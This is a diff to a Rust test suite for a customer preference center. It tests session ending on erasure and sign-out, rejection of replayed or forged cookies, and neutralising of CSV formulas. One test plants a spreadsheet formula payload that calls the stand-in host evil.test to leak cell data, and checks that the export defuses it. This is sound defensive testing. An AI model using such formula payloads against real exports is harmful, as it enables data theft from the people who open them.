@@ -773,7 +773,7 @@ async fn an_erasure_request_is_stored_with_its_deadline_and_stops_every_use() {
     let filed = browser
         .post(&center, "/preferences/erase", &[("confirm", "yes")])
         .await;
-    assert_eq!(filed.status, StatusCode::SEE_OTHER);
+    assert_eq!(filed.status, StatusCode::OK, "{}", filed.text);
     let requests = center.app.store.erasure_requests(subject).await.unwrap();
     assert_eq!(requests.len(), 1);
     assert_eq!(requests[0].regime, "gdpr");
@@ -788,10 +788,26 @@ async fn an_erasure_request_is_stored_with_its_deadline_and_stops_every_use() {
             .await,
         "denied.erasure_pending"
     );
-    let page = browser.get(&center, "/preferences").await;
+    // The answer says so, and ends the session: the page with the data no longer opens.
     assert!(
-        page.text
-            .contains("You asked us to delete your data on 2026-05-28")
+        filed
+            .text
+            .contains("You asked us to delete your data on 2026-05-28"),
+        "{}",
+        filed.text
+    );
+    assert!(
+        filed.headers[header::SET_COOKIE]
+            .to_str()
+            .unwrap()
+            .starts_with("kept_prefs=;")
+    );
+    let page = browser.get(&center, "/preferences").await;
+    assert_eq!(page.status, StatusCode::SEE_OTHER);
+    assert!(location(&page).starts_with("/preferences/sign-in"));
+    assert_eq!(
+        browser.get(&center, "/preferences/data.json").await.status,
+        StatusCode::UNAUTHORIZED
     );
     let api = center
         .api(
@@ -1122,4 +1138,141 @@ async fn mail_settings_come_from_the_environment_and_the_password_stays_secret()
     assert!(Mailer::from_config(&demo, "x").unwrap().can_send());
     let plain = Config::load(None, &Env::default(), &Flags::new()).unwrap();
     assert!(!Mailer::from_config(&plain, "x").unwrap().can_send());
+}
+
+#[tokio::test]
+async fn signing_out_ends_the_session_on_the_server() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    let browser = center.browser(subject).await;
+    // A copy of the cookie, as an attacker who read it would hold.
+    let copy = Browser {
+        cookie: browser.cookie.clone(),
+        csrf: browser.csrf.clone(),
+    };
+    assert_eq!(
+        copy.get(&center, "/preferences/data.json").await.status,
+        StatusCode::OK
+    );
+
+    let out = browser.post(&center, "/preferences/sign-out", &[]).await;
+    assert_eq!(out.status, StatusCode::SEE_OTHER);
+    assert!(location(&out).starts_with("/preferences/sign-in"));
+
+    // Still within the cookie's two hours, still correctly signed: refused all the same.
+    let page = copy.get(&center, "/preferences").await;
+    assert_eq!(page.status, StatusCode::SEE_OTHER);
+    assert!(location(&page).starts_with("/preferences/sign-in"));
+    for path in ["/preferences/data.json", "/preferences/data.csv"] {
+        let data = copy.get(&center, path).await;
+        assert_eq!(data.status, StatusCode::UNAUTHORIZED, "{path}");
+        assert!(!data.text.contains("\"traits\""), "{path}");
+    }
+    let post = copy
+        .post(&center, "/preferences/erase", &[("confirm", "yes")])
+        .await;
+    assert_eq!(post.status, StatusCode::UNAUTHORIZED);
+    assert!(
+        center
+            .app
+            .store
+            .erasure_requests(subject)
+            .await
+            .unwrap()
+            .is_empty()
+    );
+}
+
+#[tokio::test]
+async fn a_new_sign_in_link_ends_the_older_sessions() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    let old = center.browser(subject).await;
+    let other = center.browser(center.subject(1)).await;
+    let new = center.browser(subject).await;
+    assert_eq!(
+        old.get(&center, "/preferences/data.json").await.status,
+        StatusCode::UNAUTHORIZED
+    );
+    assert_eq!(
+        new.get(&center, "/preferences/data.json").await.status,
+        StatusCode::OK
+    );
+    // Another customer's session is not touched.
+    assert_eq!(
+        other.get(&center, "/preferences/data.json").await.status,
+        StatusCode::OK
+    );
+}
+
+#[tokio::test]
+async fn a_cookie_for_a_session_the_server_never_opened_opens_nothing() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    // A correctly signed session cookie (the secret leaked, or minted before this change) whose
+    // id the store does not know.
+    let keys = center
+        .state
+        .prefcenter
+        .keys(center.app.store.as_ref())
+        .await
+        .unwrap();
+    let claims = kept_server::prefcenter::token::Claims::new(
+        kept_server::prefcenter::token::Kind::Session,
+        subject,
+        NOW + 60 * MINUTE,
+    );
+    let cookie = format!("kept_prefs={}", keys.sign(&claims));
+    let page = send(
+        center.router(),
+        get_page("/preferences/data.json", Some(&cookie)),
+    )
+    .await;
+    assert_eq!(page.status, StatusCode::UNAUTHORIZED);
+}
+
+#[tokio::test]
+async fn csv_exports_defuse_formulas_planted_in_traits() {
+    let center = Center::new().await;
+    let subject = center.subject(0);
+    let user_id = "u1";
+    let answer = send(
+        center.router(),
+        Request::post("/v1/identify")
+            .header(
+                header::AUTHORIZATION,
+                format!("Bearer {}", center.app.key(Role::Collect)),
+            )
+            .header(header::CONTENT_TYPE, "application/json")
+            .body(Body::from(
+                json!({
+                    "userId": user_id,
+                    "traits": { "name": "=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")" },
+                    "context": { "kept": { "collection_point": "checkout" } }
+                })
+                .to_string(),
+            ))
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
+    let browser = center.browser(subject).await;
+    let csv = browser.get(&center, "/preferences/data.csv").await;
+    assert_eq!(csv.status, StatusCode::OK, "{}", csv.text);
+    let row = csv
+        .text
+        .lines()
+        .find(|l| l.starts_with("trait,name,"))
+        .unwrap_or_else(|| panic!("a row for the name: {}", csv.text));
+    assert!(
+        row.starts_with("trait,name,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,"),
+        "{row}"
+    );
+    // No cell of the export starts a formula.
+    for line in csv.text.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '@', '\t']), "{line}");
+        }
+    }
 }
